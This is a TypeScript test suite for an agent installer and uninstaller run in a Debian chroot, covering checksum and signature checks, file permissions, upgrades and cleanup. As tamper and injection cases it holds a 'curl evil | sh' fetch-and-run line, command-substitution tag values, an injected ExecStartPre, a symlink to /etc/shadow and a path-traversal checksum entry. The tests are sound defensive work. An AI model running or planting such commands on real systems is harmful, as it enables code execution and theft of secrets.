import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { appendFileSync, chmodSync, copyFileSync, existsSync, lstatSync, mkdirSync, readlinkSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test, type TestContext } from 'node:test';
import { renderAgentToml } from '../bundler/build/agent-toml.ts';
import { TestAppliance } from './helpers/appliance.ts';
import { assembleLinuxBundleFolder, chrootUnavailable, diffListings, suiteRoots, TestRoot, writeSha256Sums, type BundleFiles, type Listing } from './helpers/chroot.ts';
import { AGENT_BIN, REPO_ROOT } from './helpers/processes.ts';
import { waitFor } from './helpers/wait.ts';

/*
 * The real install.sh, uninstall.sh and ct-ops-agent-helper.sh, run as root inside a throwaway
 * Debian bookworm root (test/helpers/chroot.ts), and the installed agent enrolling with a real
 * appliance on loopback outside the chroot.
 */

const BUNDLE_PARENT = '/bundle';
const HOSTILE_TAG = '$(touch /tmp/pwned)`touch /tmp/pwned2`';

/** A stand-in executable for the file-level tests (they never run it). */
const standInAgent = (label: string): string => `#!/bin/sh\n# stand-in agent ${label}\necho "stand-in ${label}"\n`;

function agentToml(address = '127.0.0.1:9443', orgToken = 'tok_test'): string {
  return [
    '[ingest]',
    `address = ${JSON.stringify(address)}`,
    'ca_cert_file = "/etc/ct-ops/ca.crt"',
    '',
    '[agent]',
    `org_token = ${JSON.stringify(orgToken)}`,
    'data_dir = "/var/lib/ct-ops/agent"',
    'heartbeat_interval_secs = 5',
    `tags = { site = ${JSON.stringify(HOSTILE_TAG)} }`,
    '',
  ].join('\n');
}

const defaultFiles = (label = 'v1'): BundleFiles => ({ agent: standInAgent(label), agentToml: agentToml(), caCert: '-----BEGIN CERTIFICATE-----\ntest\n-----END CERTIFICATE-----\n' });

/**
 * Produces the extracted bundle folder inside the root and returns its path as seen from inside.
 * The one place to switch to the real bundler (`ct-ops-bundle build` + unzip) once it exists.
 */
function bundleIn(root: TestRoot, files: BundleFiles, name = 'b'): string {
  const parent = root.at(`${BUNDLE_PARENT}/${name}`);
  rmSync(parent, { recursive: true, force: true });
  mkdirSync(parent, { recursive: true });
  const dir = assembleLinuxBundleFolder(parent, files);
  return dir.slice(root.path.length);
}

function mode(root: TestRoot, path: string): { mode: string; uid: number; gid: number } {
  const stat = statSync(root.at(path));
  return { mode: (stat.mode & 0o7777).toString(8).padStart(4, '0'), uid: stat.uid, gid: stat.gid };
}

/** The target of an enablement symlink under the root's /etc/systemd/system (absolute, inside the root). */
function enabledAs(root: TestRoot, link: string): string | undefined {
  const path = root.at(`etc/systemd/system/${link}`);
  return lstatSync(path, { throwIfNoEntry: false })?.isSymbolicLink() ? readlinkSync(path) : undefined;
}

function assertUnchanged(before: Listing, after: Listing, what: string): void {
  assert.deepEqual(diffListings(before, after), [], `${what} changed the file system`);
}

function assertNotPwned(root: TestRoot): void {
  for (const file of ['tmp/pwned', 'tmp/pwned2']) assert.ok(!existsSync(root.at(file)) && !existsSync(`/${file}`), `${file} exists: a tag was executed`);
}

/** Files shadow-utils leaves as a side effect of useradd/userdel (backups, lock). */
const ACCOUNT_DB_SIDE_FILES = /^etc\/(passwd-|group-|shadow-|gshadow-|\.pwd\.lock|subuid-?|subgid-?)$/;

describe('install.sh, uninstall.sh and the helper in a Debian root', { skip: chrootUnavailable(), timeout: 30 * 60_000 }, () => {
  const newRoot = suiteRoots();

  const install = (root: TestRoot, bundle: string, ...args: string[]) => root.run([`${bundle}/install.sh`, ...args]);

  test('a fresh install puts every file in place with the documented owner and mode and enables the units, executing no tag', () => {
    const root = newRoot();
    const bundle = bundleIn(root, defaultFiles());
    const result = install(root, bundle, '--no-start');
    assert.equal(result.code, 0, result.stdout + result.stderr);
    assert.match(result.stdout, /all 12 bundle files match SHA256SUMS/);

    const account = root.account('ct-ops');
    assert.ok(account, 'user ct-ops exists');
    const gid = root.groupId('ct-ops');
    assert.equal(account.gid, gid);
    assert.ok(account.uid < 1000, 'a system account');
    const passwd = readFileSync(root.at('etc/passwd'), 'utf8').split('\n').find((line) => line.startsWith('ct-ops:'))!;
    assert.match(passwd, /:\/var\/lib\/ct-ops\/agent:\/usr\/sbin\/nologin$/);
    assert.ok(!existsSync(root.at('home/ct-ops')));

    const expected: Record<string, [string, number, number]> = {
      'usr/local/bin/ct-ops-agent': ['0755', 0, 0],
      'etc/ct-ops': ['0755', 0, 0],
      'etc/ct-ops/agent.toml': ['0640', 0, gid!],
      'etc/ct-ops/ca.crt': ['0644', 0, 0],
      'var/lib/ct-ops': ['0755', 0, 0],
      'var/lib/ct-ops/agent': ['0700', account.uid, gid!],
      'var/lib/ct-ops/requests': ['0770', 0, gid!],
      'var/lib/ct-ops/helper': ['0700', 0, 0],
      'usr/local/libexec/ct-ops/ct-ops-agent-helper.sh': ['0755', 0, 0],
      'usr/local/libexec/ct-ops/uninstall.sh': ['0755', 0, 0],
      'etc/systemd/system/ct-ops-agent.service': ['0644', 0, 0],
      'etc/systemd/system/ct-ops-agent-helper.path': ['0644', 0, 0],
      'etc/systemd/system/ct-ops-agent-helper.service': ['0644', 0, 0],
    };
    for (const [path, [wantMode, uid, wantGid]] of Object.entries(expected)) {
      assert.deepEqual(mode(root, path), { mode: wantMode, uid, gid: wantGid }, path);
    }
    assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v1'));
    assert.equal(readFileSync(root.at('etc/ct-ops/agent.toml'), 'utf8'), agentToml(), 'agent.toml copied byte for byte');
    assert.equal(readFileSync(root.at('etc/systemd/system/ct-ops-agent.service'), 'utf8'), readFileSync(join(REPO_ROOT, 'systemd/ct-ops-agent.service'), 'utf8'));
    assert.equal(enabledAs(root, 'multi-user.target.wants/ct-ops-agent.service'), '/etc/systemd/system/ct-ops-agent.service', 'agent enabled');
    assert.equal(enabledAs(root, 'paths.target.wants/ct-ops-agent-helper.path'), '/etc/systemd/system/ct-ops-agent-helper.path', 'helper path unit enabled');
    assertNotPwned(root);
    // The user can read its config, and nobody else can.
    assert.equal(root.run(['cat', '/etc/ct-ops/agent.toml'], { userspec: `${account.uid}:${gid}` }).code, 0);
    assert.notEqual(root.run(['cat', '/etc/ct-ops/agent.toml'], { userspec: '65534:65534' }).code, 0);
  });

  describe('a bundle that does not match SHA256SUMS is refused and nothing changes', () => {
    let root: TestRoot;
    let baseline: Listing;
    before(() => {
      root = newRoot();
      baseline = root.listing();
    });

    const cases: Array<{ name: string; code: number; error: RegExp; tamper: (dir: string) => void }> = [
      { name: 'a tampered executable', code: 4, error: /checksum mismatch for ct-ops-agent/, tamper: (dir) => appendFileSync(join(dir, 'ct-ops-agent'), 'curl evil | sh\n') },
      { name: 'a tampered agent.toml', code: 4, error: /checksum mismatch for agent\.toml/, tamper: (dir) => writeFileSync(join(dir, 'agent.toml'), agentToml('evil.example:9443')) },
      { name: 'a tampered unit file', code: 4, error: /checksum mismatch for ct-ops-agent\.service/, tamper: (dir) => appendFileSync(join(dir, 'ct-ops-agent.service'), 'ExecStartPre=/bin/sh -c "id"\n') },
      { name: 'an extra file', code: 4, error: /unexpected file in the bundle \(not in SHA256SUMS\): evil\.sh/, tamper: (dir) => writeFileSync(join(dir, 'evil.sh'), 'x') },
      { name: 'an extra hidden file', code: 4, error: /unexpected file.*\.profile/, tamper: (dir) => writeFileSync(join(dir, '.profile'), 'x') },
      { name: 'a missing file', code: 4, error: /missing or not a regular file: ca\.crt/, tamper: (dir) => unlinkSync(join(dir, 'ca.crt')) },
      { name: 'a listed file replaced by a symbolic link', code: 4, error: /missing or not a regular file: ca\.crt/, tamper: (dir) => { unlinkSync(join(dir, 'ca.crt')); symlinkSync('/etc/shadow', join(dir, 'ca.crt')); } },
      { name: 'no SHA256SUMS', code: 4, error: /SHA256SUMS is missing/, tamper: (dir) => unlinkSync(join(dir, 'SHA256SUMS')) },
      { name: 'a malformed SHA256SUMS line', code: 4, error: /malformed line/, tamper: (dir) => appendFileSync(join(dir, 'SHA256SUMS'), `${'0'.repeat(64)}  ../../etc/passwd\n`) },
      { name: 'a bundle for another platform', code: 3, error: /this bundle is for linux-arm64 but this machine is linux-x64/, tamper: (dir) => { writeFileSync(join(dir, 'TARGET'), 'linux-arm64\n'); writeSha256Sums(dir); } },
    ];
    for (const { name, code, error, tamper } of cases) {
      test(`${name}: exit ${code}`, () => {
        const bundle = bundleIn(root, defaultFiles());
        tamper(root.at(bundle));
        const result = install(root, bundle, '--no-start');
        assert.equal(result.code, code, result.stdout + result.stderr);
        assert.match(result.stderr, error);
        assertUnchanged(baseline, root.listing(), name);
      });
    }

    test('a missing checksum tool refuses the install (exit 5) unless --insecure-skip-checksums, which warns loudly', () => {
      const bundle = bundleIn(root, defaultFiles());
      const sha256sum = root.at('usr/bin/sha256sum');
      const saved = readFileSync(sha256sum);
      unlinkSync(sha256sum);
      try {
        const listing = root.listing();
        const refused = install(root, bundle, '--no-start');
        assert.equal(refused.code, 5, refused.stdout + refused.stderr);
        assert.match(refused.stderr, /no SHA-256 tool/);
        assertUnchanged(listing, root.listing(), 'the refused install');
        const forced = install(root, bundle, '--no-start', '--insecure-skip-checksums');
        assert.equal(forced.code, 0, forced.stdout + forced.stderr);
        assert.match(forced.stderr, /THE BUNDLE WAS NOT VERIFIED/);
        assert.ok(existsSync(root.at('usr/local/bin/ct-ops-agent')));
      } finally {
        writeFileSync(sha256sum, saved);
        chmodSync(sha256sum, 0o755);
      }
    });
  });

  test('a non-root user is refused with exit 2; --dry-run prints the actions and changes nothing', () => {
    const root = newRoot();
    const bundle = bundleIn(root, defaultFiles());
    const baseline = root.listing();
    const asNobody = root.run([`${bundle}/install.sh`, '--no-start'], { userspec: '65534:65534' });
    assert.equal(asNobody.code, 2, asNobody.stderr);
    assert.match(asNobody.stderr, /must run as root/);
    const dry = install(root, bundle, '--no-start', '--dry-run');
    assert.equal(dry.code, 0, dry.stdout + dry.stderr);
    assert.match(dry.stdout, /^\[dry-run\] useradd --system --no-create-home/m);
    assert.match(dry.stdout, /^\[dry-run\] mv -f \/usr\/local\/bin\/\.ct-ops-agent\.XXXXXXXX \/usr\/local\/bin\/ct-ops-agent$/m);
    assert.match(dry.stdout, /^\[dry-run\] systemctl --root=\/ enable ct-ops-agent-helper\.path ct-ops-agent\.service$/m);
    assertUnchanged(baseline, root.listing(), '--dry-run');
    const usage = install(root, bundle, '--bogus');
    assert.equal(usage.code, 1);
  });

  test('a dry run of an install, an upgrade and an uninstall ends by saying nothing was changed and claims no outcome', () => {
    const root = newRoot();
    const bundle = bundleIn(root, defaultFiles());
    const claims = /installation complete|upgrade complete|CT-Ops agent removed|ct-ops-agent is running|is enabled but was not started|IP traffic limited/;
    const lastLine = (stdout: string) => stdout.trimEnd().split('\n').at(-1);
    const dryRun = (what: string, command: string[]) => {
      const before = root.listing();
      const result = root.run(command);
      assert.equal(result.code, 0, result.stdout + result.stderr);
      assert.doesNotMatch(result.stdout, claims, what);
      assert.match(result.stdout, /^\[dry-run\] /m, what);
      assertUnchanged(before, root.listing(), what);
      return lastLine(result.stdout);
    };
    assert.equal(dryRun('install --dry-run', [`${bundle}/install.sh`, '--no-start', '--dry-run']), 'ct-ops install: dry run: nothing was changed; the [dry-run] lines above are what an installation would do');
    const installed = install(root, bundle, '--no-start');
    assert.equal(installed.code, 0, installed.stderr);
    assert.equal(lastLine(installed.stdout), 'ct-ops install: installation complete');
    assert.equal(dryRun('upgrade --dry-run', [`${bundle}/install.sh`, '--no-start', '--dry-run']), 'ct-ops install: dry run: nothing was changed; the [dry-run] lines above are what an installation would do');
    assert.match(dryRun('uninstall --dry-run', ['/usr/local/libexec/ct-ops/uninstall.sh', '--dry-run']) ?? '', /^ct-ops uninstall: dry run: nothing was changed; the \[dry-run\] lines above are what an uninstall would do$/);
  });

  test('a bundle naming several ingest instances by IP gets an allow-list of all of them; one host name among them, none', () => {
    const root = newRoot();
    const dropIn = 'etc/systemd/system/ct-ops-agent.service.d/appliance-address.conf';
    // The agent.toml a bundle writes (smol-toml: the list on one line), not a hand-written one.
    const rendered = (addresses: string[]) => renderAgentToml({ os: 'linux', addresses, orgToken: 'tok_test', tags: {}, releasePublicKey: 'untrusted comment: test\nRWQ', installBundleId: 'bnd_0123456789abcdef0123' });
    assert.equal(install(root, bundleIn(root, { ...defaultFiles(), agentToml: rendered(['127.0.0.1:9443', '[::1]:9443']) }, 'two'), '--no-start').code, 0);
    assert.match(readFileSync(root.at(dropIn), 'utf8'), /^IPAddressAllow=127\.0\.0\.1 ::1$/m);
    const mixed = install(root, bundleIn(root, { ...defaultFiles(), agentToml: rendered(['127.0.0.1:9443', 'ingest.example:9443']) }, 'mixed'), '--no-start', '--replace-config');
    assert.equal(mixed.code, 0, mixed.stderr);
    assert.match(mixed.stdout, /named by a host name \(or by a list install\.sh does not read\): no IP allow-list/);
    assert.equal(existsSync(root.at(dropIn)), false, 'the allow-list of the two IPs is gone with them');
  });

  test('a dry run shows the IP allow-list of the agent.toml the real run would install, and the removals an uninstall would make', () => {
    const root = newRoot();
    const allowList = /^\[dry-run\] mv -f \S+ \/etc\/systemd\/system\/ct-ops-agent\.service\.d\/appliance-address\.conf$/m;
    const noAllowList = /named by a host name \(or by a list install\.sh does not read\): no IP allow-list/;
    const dryRun = (bundle: string, ...args: string[]) => {
      const before = root.listing();
      const result = install(root, bundle, '--dry-run', ...args);
      assert.equal(result.code, 0, result.stdout + result.stderr);
      assertUnchanged(before, root.listing(), `install.sh --dry-run ${args.join(' ')}`);
      return result;
    };
    const byIp = bundleIn(root, defaultFiles(), 'ip');
    const byName = bundleIn(root, { ...defaultFiles(), agentToml: agentToml('appliance.example:9443') }, 'name');

    // A fresh machine: the bundle's agent.toml (an IP address) is what the real run installs.
    const fresh = dryRun(byIp);
    assert.match(fresh.stdout, allowList);
    assert.doesNotMatch(fresh.stdout, noAllowList);
    // Without --no-start and without systemd (a chroot) the warning says what would happen.
    assert.match(fresh.stderr, /the agent would be enabled but not started/);
    assert.doesNotMatch(fresh.stderr, /the agent is enabled but not started/);

    assert.equal(install(root, byName, '--no-start').code, 0);
    // The installed agent.toml names a host: kept, it gets no allow-list; replaced, the bundle's IP does.
    assert.match(dryRun(byIp, '--no-start').stdout, noAllowList);
    const replacing = dryRun(byIp, '--no-start', '--replace-config');
    assert.match(replacing.stdout, allowList);
    assert.doesNotMatch(replacing.stdout, noAllowList);

    // Under systemd, uninstall.sh resets the units' failed state: a dry run only prints that, and
    // it prints the removal of /usr/local/libexec, which install.sh created and only ct-ops uses.
    mkdirSync(root.at('run/systemd/system'), { recursive: true });
    const before = root.listing();
    const uninstall = root.run(['/usr/local/libexec/ct-ops/uninstall.sh', '--dry-run']);
    assert.equal(uninstall.code, 0, uninstall.stdout + uninstall.stderr);
    assert.match(uninstall.stdout, /^\[dry-run\] systemctl reset-failed ct-ops-agent\.service ct-ops-agent-helper\.service$/m);
    assert.match(uninstall.stdout, /^\[dry-run\] rmdir \/usr\/local\/libexec$/m);
    assertUnchanged(before, root.listing(), 'uninstall.sh --dry-run');
  });

  test('running it again upgrades in place: the binary is replaced, the local config kept unless --replace-config', () => {
    const root = newRoot();
    assert.equal(install(root, bundleIn(root, defaultFiles('v1'), 'v1'), '--no-start').code, 0);
    const account = root.account('ct-ops')!;
    writeFileSync(root.at('var/lib/ct-ops/agent/agent_state.json'), '{"agent_id":"hst_x"}');
    const edited = `${agentToml()}# edited on this host\n`;
    writeFileSync(root.at('etc/ct-ops/agent.toml'), edited);

    const upgrade = install(root, bundleIn(root, { ...defaultFiles('v2'), caCert: 'new CA\n' }, 'v2'), '--no-start');
    assert.equal(upgrade.code, 0, upgrade.stdout + upgrade.stderr);
    assert.match(upgrade.stdout, /upgrading in place/);
    assert.match(upgrade.stdout, /keeping the existing \/etc\/ct-ops\/agent\.toml/);
    assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v2'));
    assert.equal(readFileSync(root.at('etc/ct-ops/agent.toml'), 'utf8'), edited);
    assert.notEqual(readFileSync(root.at('etc/ct-ops/ca.crt'), 'utf8'), 'new CA\n');
    assert.equal(readFileSync(root.at('var/lib/ct-ops/agent/agent_state.json'), 'utf8'), '{"agent_id":"hst_x"}', 'identity kept');
    assert.deepEqual(root.account('ct-ops'), account, 'same user');
    assert.equal(readFileSync(root.at('etc/passwd'), 'utf8').split('\n').filter((line) => line.startsWith('ct-ops:')).length, 1);

    const replace = install(root, bundleIn(root, { ...defaultFiles('v3'), caCert: 'new CA\n' }, 'v3'), '--no-start', '--replace-config');
    assert.equal(replace.code, 0, replace.stderr);
    assert.equal(readFileSync(root.at('etc/ct-ops/agent.toml'), 'utf8'), agentToml());
    assert.equal(readFileSync(root.at('etc/ct-ops/ca.crt'), 'utf8'), 'new CA\n');
    assert.deepEqual(mode(root, 'etc/ct-ops/agent.toml'), { mode: '0640', uid: 0, gid: root.groupId('ct-ops')! });
  });

  test('uninstall.sh leaves nothing behind and can run again', () => {
    const root = newRoot();
    const bundle = bundleIn(root, defaultFiles());
    const baseline = root.listing();
    const passwd = readFileSync(root.at('etc/passwd'), 'utf8');
    const group = readFileSync(root.at('etc/group'), 'utf8');
    assert.equal(install(root, bundle, '--no-start').code, 0);
    writeFileSync(root.at('var/lib/ct-ops/agent/agent_key.pem'), 'secret');
    const dry = root.run(['/usr/local/libexec/ct-ops/uninstall.sh', '--dry-run']);
    assert.equal(dry.code, 0, dry.stderr);
    assert.match(dry.stdout, /^\[dry-run\] rm -rf \/var\/lib\/ct-ops\/agent$/m);
    assert.match(dry.stdout, /^\[dry-run\] rmdir \/var\/lib\/ct-ops \(if empty\)$/m);
    assert.ok(existsSync(root.at('var/lib/ct-ops/agent/agent_key.pem')));

    const removed = root.run(['/usr/local/libexec/ct-ops/uninstall.sh']);
    assert.equal(removed.code, 0, removed.stdout + removed.stderr);
    const left = diffListings(baseline, root.listing()).filter((line) => !ACCOUNT_DB_SIDE_FILES.test(line.replace(/^[+~-] /, '').replace(/:.*$/, '')));
    // The account databases are rewritten (new mtime) but hold the same entries as before.
    assert.deepEqual(left.filter((line) => !/^~ etc\/(passwd|group|shadow|gshadow):/.test(line)), []);
    assert.equal(readFileSync(root.at('etc/passwd'), 'utf8'), passwd);
    assert.equal(readFileSync(root.at('etc/group'), 'utf8'), group);
    const again = root.run([`${bundle}/uninstall.sh`]);
    assert.equal(again.code, 0, again.stderr);
  });

  test("install.sh leaves the appliance's /etc/ct-ops and /var/lib/ct-ops as they are, uninstall.sh removes only the agent's files; a shared folder others can write is refused", () => {
    const root = newRoot();
    const bundle = bundleIn(root, defaultFiles());
    // The appliance's layout on the same host (image/install.sh), with a parent mode the agent would not choose.
    mkdirSync(root.at('var/lib/ct-ops/appliance'), { recursive: true, mode: 0o700 });
    chmodSync(root.at('var/lib/ct-ops'), 0o711);
    chmodSync(root.at('var/lib/ct-ops/appliance'), 0o700);
    mkdirSync(root.at('etc/ct-ops'), { mode: 0o755 });
    const foreign = ['etc/ct-ops/appliance.toml', 'etc/ct-ops/appliance-release.pub', 'var/lib/ct-ops/appliance/appliance.db'];
    for (const path of foreign) writeFileSync(root.at(path), path);
    const modes = (): string[] => ['var/lib/ct-ops', 'var/lib/ct-ops/appliance'].map((path) => (statSync(root.at(path)).mode & 0o7777).toString(8));

    assert.equal(install(root, bundle, '--no-start').code, 0);
    assert.deepEqual(modes(), ['711', '700'], 'the existing folders keep their modes');
    const removed = root.run(['/usr/local/libexec/ct-ops/uninstall.sh']);
    assert.equal(removed.code, 0, removed.stdout + removed.stderr);
    assert.match(removed.stdout, /kept \/etc\/ct-ops: it holds files that are not the agent's/);
    for (const path of foreign) assert.equal(readFileSync(root.at(path), 'utf8'), path, `${path} survives`);
    assert.deepEqual(readdirSync(root.at('etc/ct-ops')).sort(), ['appliance-release.pub', 'appliance.toml']);
    assert.deepEqual(readdirSync(root.at('var/lib/ct-ops')), ['appliance']);
    assert.deepEqual(modes(), ['711', '700']);

    chmodSync(root.at('var/lib/ct-ops'), 0o777);
    const refused = install(root, bundle, '--no-start');
    assert.equal(refused.code, 6, refused.stdout + refused.stderr);
    assert.match(refused.stderr, /\/var\/lib\/ct-ops exists but is not root's or is writable by others/);
  });

  describe('uninstall.sh --report-task keeps a private report kit on the root file system', () => {
    /** A stand-in agent whose report-task writes down how it was run: from where, with which copies. */
    const reportingAgent = `#!/bin/sh
# stand-in agent that records how uninstall.sh runs its report
case " $* " in *" report-task "*) ;; *) exit 0 ;; esac
{
  echo "uid $(id -u)"
  echo "exe $0"
  echo "data $CT_OPS_DATA_DIR"
  echo "ca $CT_OPS_INGEST_CA_CERT"
  stat -c 'kit %a %u %g' "\${0%/*}"
  for file in "$CT_OPS_DATA_DIR"/*; do stat -c 'file %n %F %a %u' "$file"; done
  echo "key $(cat "$CT_OPS_DATA_DIR/agent_key.pem")"
} >/tmp/stand-in-report.txt
echo "stand-in reported $*"
`;
    const kitsIn = (root: TestRoot, dir: string): string[] => readdirSync(root.at(dir)).filter((name) => name.startsWith('ct-ops-report') || (dir === 'tmp' && name.startsWith('ct-ops')));

    test('only the report\'s files are copied, never through a link or from a FIFO, into /var/lib/ct-ops-report.* (not /tmp) that only root and ct-ops can read, and the report runs as ct-ops; deleted afterwards', () => {
      const root = newRoot();
      const bundle = bundleIn(root, { ...defaultFiles(), agent: reportingAgent });
      assert.equal(install(root, bundle, '--no-start').code, 0);
      const data = 'var/lib/ct-ops/agent';
      writeFileSync(root.at(`${data}/agent_key.pem`), 'the key');
      writeFileSync(root.at(`${data}/agent_state.json`), '{"agent_id":"hst_x"}');
      // What a compromised agent account could plant: a link to a root-only file, a FIFO, anything else.
      symlinkSync('/etc/shadow', root.at(`${data}/agent_key.pub`));
      assert.equal(spawnSync('mkfifo', [root.at(`${data}/tasks.json`)]).status, 0);
      writeFileSync(root.at(`${data}/unrelated.txt`), 'not for the report');

      // The group is deleted with the account; the kit keeps its number.
      const kitGid = root.groupId('ct-ops');
      const result = root.run(['/usr/local/libexec/ct-ops/uninstall.sh', '--report-task', 'tsk_0123abcd']);
      assert.equal(result.code, 0, result.stdout + result.stderr);
      const kit = /copied what the report needs to (\/var\/lib\/ct-ops-report\.[A-Za-z0-9]{8})$/m.exec(result.stdout)?.[1];
      assert.ok(kit, result.stdout);
      assert.match(result.stdout, /not copying \/var\/lib\/ct-ops\/agent\/agent_key\.pub for the report: not a regular file/);
      assert.match(result.stdout, /not copying \/var\/lib\/ct-ops\/agent\/tasks\.json for the report: not a regular file/);
      assert.match(result.stdout, /stand-in reported -config \S+\/agent\.toml report-task --task-id=tsk_0123abcd --outcome=succeeded/);
      assert.match(result.stdout, /reported task tsk_0123abcd to the appliance/);

      const seen = readFileSync(root.at('tmp/stand-in-report.txt'), 'utf8').trim().split('\n');
      const account = { uid: Number(seen[0]!.replace('uid ', '')) };
      assert.ok(account.uid > 0 && account.uid < 1000, `the report ran as the ct-ops system user, not root: ${seen[0]}`);
      assert.deepEqual(seen.slice(1), [
        `exe ${kit}/ct-ops-agent`,
        `data ${kit}/agent`,
        `ca ${kit}/ca.crt`,
        `kit 750 0 ${kitGid}`,
        `file ${kit}/agent/agent_key.pem regular file 600 ${account.uid}`,
        `file ${kit}/agent/agent_state.json regular file 600 ${account.uid}`,
        'key the key',
      ]);
      assert.deepEqual(kitsIn(root, 'var/lib'), [], 'the kit is deleted');
      assert.deepEqual(kitsIn(root, 'tmp'), [], 'nothing in /tmp');
    });

    test('a report that cannot be executed (126) is a clear logged failure that keeps exit 0; a stale kit is removed', () => {
      const root = newRoot();
      const bundle = bundleIn(root, { ...defaultFiles(), agent: reportingAgent });
      assert.equal(install(root, bundle, '--no-start').code, 0);
      // As on a noexec mount: the copy cannot be executed.
      chmodSync(root.at('usr/local/bin/ct-ops-agent'), 0o644);
      // Left by an earlier remote uninstall that was killed.
      mkdirSync(root.at('var/lib/ct-ops-report.Stale123'));
      writeFileSync(root.at('var/lib/ct-ops-report.Stale123/agent_key.pem'), 'old key');

      const result = root.run(['/usr/local/libexec/ct-ops/uninstall.sh', '--report-task', 'tsk_0123abcd']);
      assert.equal(result.code, 0, result.stdout + result.stderr);
      assert.match(result.stdout, /CT-Ops agent removed/);
      assert.match(result.stderr, /error: reporting task tsk_0123abcd failed: the copied agent \/var\/lib\/ct-ops-report\.[A-Za-z0-9]{8}\/ct-ops-agent could not be run \(exit 126; is \/var\/lib mounted noexec\?\)/);
      assert.ok(!existsSync(root.at('tmp/stand-in-report.txt')));
      assert.deepEqual(kitsIn(root, 'var/lib'), [], 'this kit and the stale one are deleted');
    });
  });

  test('--root installs into a root file system from outside it, and uninstall --root removes it', () => {
    const root = newRoot();
    const bundle = bundleIn(root, defaultFiles());
    const baseline = root.listing();
    const result = spawnSync(root.at(`${bundle}/install.sh`), ['--root', root.path], { encoding: 'utf8' });
    assert.equal(result.status, 0, result.stdout + result.stderr);
    const account = root.account('ct-ops');
    assert.ok(account, 'user created in the root, not on the host');
    assert.deepEqual(mode(root, 'var/lib/ct-ops/agent'), { mode: '0700', uid: account.uid, gid: account.gid });
    assert.equal(enabledAs(root, 'multi-user.target.wants/ct-ops-agent.service'), '/etc/systemd/system/ct-ops-agent.service');
    assert.ok(!existsSync('/etc/systemd/system/ct-ops-agent.service') && !existsSync('/var/lib/ct-ops'), 'nothing installed on the host');
    const removed = spawnSync(root.at('/usr/local/libexec/ct-ops/uninstall.sh'), ['--root', root.path], { encoding: 'utf8' });
    assert.equal(removed.status, 0, removed.stdout + removed.stderr);
    const left = diffListings(baseline, root.listing()).filter((line) => !ACCOUNT_DB_SIDE_FILES.test(line.replace(/^[+~-] /, '').replace(/:.*$/, '')) && !/^~ etc\/(passwd|group|shadow|gshadow):/.test(line));
    assert.deepEqual(left, []);
  });

  test('--bundle-pubkey verifies SHA256SUMS.minisig: a good signature installs, another key\'s is refused (4), no minisign is refused (5)', () => {
    assert.ok(!spawnSync('minisign', ['-v']).error, 'minisign is not installed on this machine (apt-get install -y minisign)');
    const root = newRoot();
    const keys = root.at('keys');
    mkdirSync(keys);
    for (const name of ['good', 'other']) {
      const made = spawnSync('minisign', ['-G', '-W', '-p', `${keys}/${name}.pub`, '-s', `${keys}/${name}.key`], { encoding: 'utf8' });
      assert.equal(made.status, 0, made.stderr);
    }
    const sign = (bundle: string, key: string): void => {
      const signed = spawnSync('minisign', ['-S', '-s', `${keys}/${key}.key`, '-m', root.at(`${bundle}/SHA256SUMS`), '-x', root.at(`${bundle}/SHA256SUMS.minisig`)], { encoding: 'utf8' });
      assert.equal(signed.status, 0, signed.stderr);
    };
    const baseline = root.listing(['proc', 'sys', 'dev', 'run', 'bundle', 'keys']);
    // minisign is not in the Debian root: inside the chroot the check cannot run, and says so.
    const inside = bundleIn(root, defaultFiles(), 'in');
    sign(inside, 'good');
    const noTool = install(root, inside, '--no-start', '--bundle-pubkey', '/keys/good.pub');
    assert.equal(noTool.code, 5, noTool.stderr);
    assert.match(noTool.stderr, /neither minisign nor openssl is installed/);
    // From the host (which has minisign), into the root with --root.
    const forged = bundleIn(root, defaultFiles(), 'forged');
    sign(forged, 'other');
    const refused = spawnSync(root.at(`${forged}/install.sh`), ['--root', root.path, '--bundle-pubkey', `${keys}/good.pub`], { encoding: 'utf8' });
    assert.equal(refused.status, 4, refused.stdout + refused.stderr);
    assert.match(refused.stderr, /SHA256SUMS\.minisig does not verify/);
    assert.deepEqual(diffListings(baseline, root.listing(['proc', 'sys', 'dev', 'run', 'bundle', 'keys'])), []);
    const good = bundleIn(root, defaultFiles(), 'good');
    sign(good, 'good');
    const installed = spawnSync(root.at(`${good}/install.sh`), ['--root', root.path, '--bundle-pubkey', `${keys}/good.pub`], { encoding: 'utf8' });
    assert.equal(installed.status, 0, installed.stdout + installed.stderr);
    assert.match(installed.stdout, /SHA256SUMS signature verified/);
  });

  describe('the root helper (stubbed systemctl and systemd-run: no systemd runs in a chroot)', () => {
    let root: TestRoot;
    const helper = (env: Record<string, string> = {}) => root.run(['/usr/local/libexec/ct-ops/ct-ops-agent-helper.sh'], { env: { CT_OPS_UPDATE_SETTLE_SECS: '0', ...env } });
    const request = (text: string): void => writeFileSync(root.at('var/lib/ct-ops/requests/request'), text);
    const resultFile = (): string => readFileSync(root.at('var/lib/ct-ops/requests/result'), 'utf8').trim();
    const calls = (tool: string): string => (existsSync(root.at(`var/log/stub-${tool}.calls`)) ? readFileSync(root.at(`var/log/stub-${tool}.calls`), 'utf8') : '');

    before(() => {
      root = newRoot();
      assert.equal(install(root, bundleIn(root, defaultFiles('v1')), '--no-start').code, 0);
      // Stand-ins for systemd's tools (the copy of the root is thrown away afterwards).
      writeFileSync(root.at('usr/bin/systemctl'), `#!/bin/sh
echo "$*" >>/var/log/stub-systemctl.calls
case "$*" in
  *MainPID*)
    if [ -f /var/log/stub-crashing ]; then n=$(cat /var/log/stub-pid 2>/dev/null || echo 100); n=$((n + 1)); echo "$n" >/var/log/stub-pid; echo "$n"; else echo 4242; fi ;;
  *ActiveState*) echo active ;;
esac
exit 0
`);
      // It notes whether the helper had answered before it was called, and fails like a unit-name
      // clash or a D-Bus error while /var/log/stub-systemd-run-fails exists.
      writeFileSync(root.at('usr/bin/systemd-run'), `#!/bin/sh
printf "%s\\n" "$@" >>/var/log/stub-systemd-run.calls
if [ -e /var/lib/ct-ops/requests/result ]; then echo answered; else echo unanswered; fi >>/var/log/stub-systemd-run-answer.calls
if [ -f /var/log/stub-systemd-run-fails ]; then
  echo "Failed to start transient service unit: Unit ct-ops-uninstall-x.service was already loaded or has a fragment file." >&2
  exit 1
fi
`);
      chmodSync(root.at('usr/bin/systemctl'), 0o755);
